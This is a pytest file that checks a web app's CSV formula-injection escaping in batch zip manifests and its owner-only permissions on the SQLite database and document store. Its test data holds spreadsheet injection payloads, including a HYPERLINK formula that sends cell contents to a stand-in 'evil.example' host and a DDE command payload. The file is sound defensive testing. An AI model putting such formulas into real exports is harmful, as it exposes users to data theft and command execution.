"""Small hardening: a batch zip's manifest cannot carry a spreadsheet formula, and the SQLite database
and the document store are readable by the server's account alone."""
from __future__ import annotations

import csv
import io
import stat
import zipfile

import pytest
from factories import gen_case
from oocr_testing import make_app
from sqlalchemy import text

from jobs.tasks import batches
from webapp.domain.csv_safety import safe_cell, safe_row
from webapp.extensions import db
from webapp.models import BackgroundJob, GeneratedDocument


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://evil.example\",\"Click\")", "'=HYPERLINK(\"http://evil.example\",\"Click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("OC26-000001", "OC26-000001"), ("to Jane = Doe", "to Jane = Doe"),
    ("", ""), (3, 3), (-3, -3), (None, None),
])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, expected):
    assert safe_cell(value) == expected


def test_the_batch_manifest_carries_no_formula(ctx):
    case = gen_case()
    job = BackgroundJob(kind="batch", title="Test batch")
    db.session.add(job)
    db.session.flush()
    db.session.add(GeneratedDocument(case_id=case.id, kind="victim_outcome_letter", job_id=job.id, status="failed",
                                     error='=HYPERLINK("http://evil.example/?"&A1,"Open")'))
    db.session.commit()
    path = batches.build_zip(job.id)
    with zipfile.ZipFile(io.BytesIO(batches.store.resolve(path).read_bytes())) as archive:
        manifest = archive.read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(manifest)))
    assert rows[1][-1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert safe_row(rows[1]) == rows[1]


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_document_store_are_owner_only(tmp_path):
    database, store = tmp_path / "data" / "oocr.sqlite3", tmp_path / "documents"
    app = make_app(f"sqlite:///{database}", tmp_path, DOCUMENT_STORE=str(store))
    with app.app_context():
        with db.engine.begin() as conn:  # WAL mode: the write makes the -wal and -shm files
            conn.execute(text("CREATE TABLE probe (id INTEGER)"))
            conn.execute(text("INSERT INTO probe VALUES (1)"))
        assert _mode(database) == 0o600 and _mode(store) == 0o700 and _mode(database.parent) != 0o777
        for suffix in ("-wal", "-shm"):
            side = database.with_name(database.name + suffix)
            if side.exists():
                assert _mode(side) & 0o077 == 0, suffix
        db.engine.dispose()


def test_an_existing_world_readable_database_is_tightened(tmp_path):
    database, store = tmp_path / "old.sqlite3", tmp_path / "store"
    database.write_bytes(b"")
    database.chmod(0o644)
    store.mkdir()
    store.chmod(0o755)
    make_app(f"sqlite:///{database}", tmp_path, DOCUMENT_STORE=str(store))
    assert _mode(database) == 0o600 and _mode(store) == 0o700
